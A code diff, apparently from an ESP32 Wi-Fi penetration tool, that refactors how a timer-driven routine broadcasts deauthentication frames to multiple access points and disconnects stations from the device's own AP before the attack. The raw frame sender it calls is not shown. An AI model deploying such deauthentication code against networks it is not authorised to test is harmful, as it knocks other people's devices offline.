@@ -14,14 +14,16 @@
 #include "esp_log.h"
 #include "esp_err.h"
 #include "esp_timer.h"
+#include "esp_wifi.h"
 #include "esp_wifi_types.h"
+#include "hotpath_log.h"
 
 #include "wifi_controller.h"
 #include "wsl_bypasser.h"
 
 static const char *TAG = "main:attack_method";
 static esp_timer_handle_t deauth_timer_handle;
-static WifiApList *allocated_ap_list = NULL;
+static WifiApList ap_list = { 0 };
 
 /**
  * @brief Callback for periodic deauthentication frame timer
@@ -45,12 +47,12 @@ static void timer_send_deauth_frame_multiple_aps(void *arg){
         return;
     }
 
-    ESP_LOGI(TAG, "APs list (%zu):", wifiApList->count);
+    HOTPATH_LOGD(TAG, "APs list (%zu):", wifiApList->count);
     for (size_t i = 0; i < wifiApList->count; i++) {
-        ESP_LOGI(TAG, "AP %zu: SSID: %s, channel: %d", 
+        HOTPATH_LOGV(TAG, "AP %zu: SSID: %s, channel: %d", 
                  i + 1, 
-                 (char*) wifiApList->ap_records[i].ssid, 
-                 wifiApList->ap_records[i].primary);  
+                 (char*) wifiApList->ap_records[i]->ssid, 
+                 wifiApList->ap_records[i]->primary);  
     }
     wsl_bypasser_send_deauth_frame_multiple_aps(wifiApList->ap_records, wifiApList->count);
 }
@@ -60,44 +62,20 @@ static void timer_send_deauth_frame_multiple_aps(void *arg){
  * @details Starts periodic timer for sending deauthentication frame via timer_send_deauth_frame().
  * Supports more than one AP in the same timer. Changes channels on the fly.
  */
-void attack_method_broadcast_multiple_ap(const wifi_ap_record_t ap_recordss[], size_t count, unsigned period_sec){
+void attack_method_broadcast_multiple_ap(const wifi_ap_record_t *const ap_records[], size_t count, unsigned period_sec){
 
-    WifiApList *ap_list = (WifiApList *) malloc(sizeof(WifiApList));
-    if (ap_list == NULL) {
-        ESP_LOGE(TAG, "Not able to allocate memory for WifiApList!");
-        return;
-    }
-
-    // Allocating memory for ap_records
-    ap_list->ap_records = (wifi_ap_record_t *) malloc(count * sizeof(wifi_ap_record_t));
-    if (ap_list->ap_records == NULL) {
-        ESP_LOGE(TAG, "Not able to allocate memory for ap_records!");
-        free(ap_list);
-        return;
-    }
+    ap_list.ap_records = ap_records;
+    ap_list.count = count;
 
-    // Copy `ap_recordss` array to a new memory
-    memcpy(ap_list->ap_records, ap_recordss, count * sizeof(wifi_ap_record_t));
-    ap_list->count = count;
-    allocated_ap_list = ap_list;
-
-    ESP_LOGW(TAG, "Resetting WIFI before attack starts to be able to get rid of connected stations and change channels.");
-    esp_wifi_stop();
-    esp_wifi_start();
-
-    ESP_LOGD(TAG, "Stopping AP...");
-    wifi_config_t wifi_config = {
-        .ap = {
-            .max_connection = 0
-        },
-    };
-    ESP_ERROR_CHECK(esp_wifi_set_config(ESP_IF_WIFI_AP, &wifi_config));
-    ESP_LOGD(TAG, "AP stopped");
+    // connected stations would pin AP interface to its channel, so they are disconnected instead of restarting Wi-Fi
+    ESP_LOGD(TAG, "Disconnecting stations from management AP");
+    esp_wifi_deauth_sta(0);
+    wifictl_ap_stop();
 
 
     const esp_timer_create_args_t deauth_timer_args = {
         .callback = &timer_send_deauth_frame_multiple_aps,
-        .arg = (void *) ap_list
+        .arg = (void *) &ap_list
     };
 
     ESP_ERROR_CHECK(esp_timer_create(&deauth_timer_args, &deauth_timer_handle));
@@ -132,11 +110,8 @@ void attack_method_broadcast_stop(){
         }
         deauth_timer_handle = NULL;
     }
-    if(allocated_ap_list){
-        free(allocated_ap_list->ap_records);
-        free(allocated_ap_list);
-        allocated_ap_list = NULL;
-    }
+    ap_list.ap_records = NULL;
+    ap_list.count = 0;
 }
 
 /**